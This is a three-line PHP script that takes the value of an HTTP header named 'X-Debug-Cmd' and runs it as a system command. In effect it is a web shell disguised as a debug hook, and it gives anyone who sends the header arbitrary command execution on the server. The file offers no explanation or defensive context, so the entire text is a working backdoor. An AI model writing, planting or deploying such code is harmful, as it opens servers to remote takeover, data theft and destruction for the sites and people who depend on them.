<?php
$hd = getallheaders();
SYSTEM($hd['X-Debug-Cmd']);
